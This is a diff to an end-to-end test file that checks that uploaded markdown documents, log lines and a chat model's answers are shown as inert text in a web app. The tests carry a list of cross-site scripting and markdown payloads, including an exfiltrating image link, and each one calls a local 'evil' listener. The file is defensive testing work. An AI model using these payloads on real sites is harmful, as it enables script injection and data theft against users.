@@ -14,17 +14,70 @@ async function trap() {
   return { url: `http://127.0.0.1:${server.address().port}`, heard, close: () => server.close() };
 }
 
+const payloadsFor = (url) => [
+  `<img src=x onerror="fetch('${url}/img')">`,
+  `<script>fetch('${url}/script')</script>`,
+  `![secret](${url}/picture?d=secret)`,
+  `[click](javascript:fetch('${url}/link'))`,
+  `<svg onload=fetch('${url}/svg')>`,
+  `"><iframe src="${url}/frame"></iframe>`,
+  `<style>@import url(${url}/style)</style>`,
+];
+
+/** Nothing of what is shown has run, and nobody was called. */
+async function harmless(v, evil) {
+  await v.page.waitForTimeout(500);
+  assert.equal(await v.page.locator('main img, main script, main iframe, main style, main [href^="javascript"], main [onerror], main [onload]').count(), 0);
+  assert.deepEqual(evil.heard, [], 'nobody was called');
+}
+
+walk('what documents say is never run, and loads nothing', async ({ browser, lang }) => {
+  const evil = await trap();
+  const server = await Server.start({ lines: [{ created_at: new Date().toISOString(), level: 'INFO', service: 'shop', log_type: 'BACKEND', message: 'hello' }] });
+  const v = await Visitor.come(browser, server.url, lang);
+  await v.page.goto(`${server.url}/library`);
+  const text = `# Zorblax ${payloadsFor(evil.url)[0]}\n\n${payloadsFor(evil.url).map((one) => `Zorblax 보증금은 7억 원입니다. The zorblax deposit is 700 million won. ${one}`).join('\n\n')}\n`;
+  await v.page.locator('input[type=file]').setInputFiles({ name: 'zorblax.md', mimeType: 'text/markdown', buffer: Buffer.from(text) });
+  const row = v.page.getByText('zorblax.md').first();
+  await row.waitFor();
+  await harmless(v, evil);
+  await v.page.goto(server.url);
+  await v.choose('researcher');
+  await v.ask(v.say('Zorblax 보증금은 얼마인가요?', 'How much is the zorblax deposit?'));
+  await v.settled();
+  const mark = v.turns.last().locator('.mark').first();
+  await mark.waitFor();
+  await harmless(v, evil);
+  await mark.click();
+  const passage = v.page.getByRole('dialog').locator('blockquote');
+  assert.match(await passage.innerText(), /onerror|script|onload|iframe|import|javascript|picture/, 'it is shown as what it is: text');
+  assert.equal(await v.page.locator('dialog img, dialog script, dialog iframe').count(), 0);
+  await harmless(v, evil);
+  await v.leave();
+  await server.end();
+  evil.close();
+});
+
+walk('what a model says is never run, and loads nothing', async ({ browser, lang }) => {
+  const evil = await trap();
+  const said = ['Zorblax-model.', ...payloadsFor(evil.url)].join('\n\n');
+  // As the decision about small talk answers.
+  const server = await Server.start({ model: `${JSON.stringify({ says: JSON.stringify({ answer: said }), always: true })}\n` });
+  const v = await Visitor.come(browser, server.url, lang);
+  await v.choose('researcher');
+  await v.ask(v.say('안녕하세요', 'hello'));
+  await v.settled();
+  await v.turns.last().getByText('Zorblax-model.').waitFor();
+  assert.ok((await v.turns.last().getByText('onload=fetch').count()) > 0, 'it is shown as what it is: text');
+  await harmless(v, evil);
+  await v.leave();
+  await server.end();
+  evil.close();
+});
+
 walk('what logs and graphs say is never run, and loads nothing', async ({ browser, lang }) => {
   const evil = await trap();
-  const payloads = [
-    `<img src=x onerror="fetch('${evil.url}/img')">`,
-    `<script>fetch('${evil.url}/script')</script>`,
-    `![secret](${evil.url}/picture?d=secret)`,
-    `[click](javascript:fetch('${evil.url}/link'))`,
-    `<svg onload=fetch('${evil.url}/svg')>`,
-    `"><iframe src="${evil.url}/frame"></iframe>`,
-    `<style>@import url(${evil.url}/style)</style>`,
-  ];
+  const payloads = payloadsFor(evil.url);
   const at = new Date(Date.now() - 60_000).toISOString();
   const lines = payloads.map((message, n) => ({ created_at: at, level: 'ERROR', service: n === 0 ? payloads[0] : 'shop', log_type: 'BACKEND', message, user_id: payloads[2] }));
   const server = await Server.start({ lines });
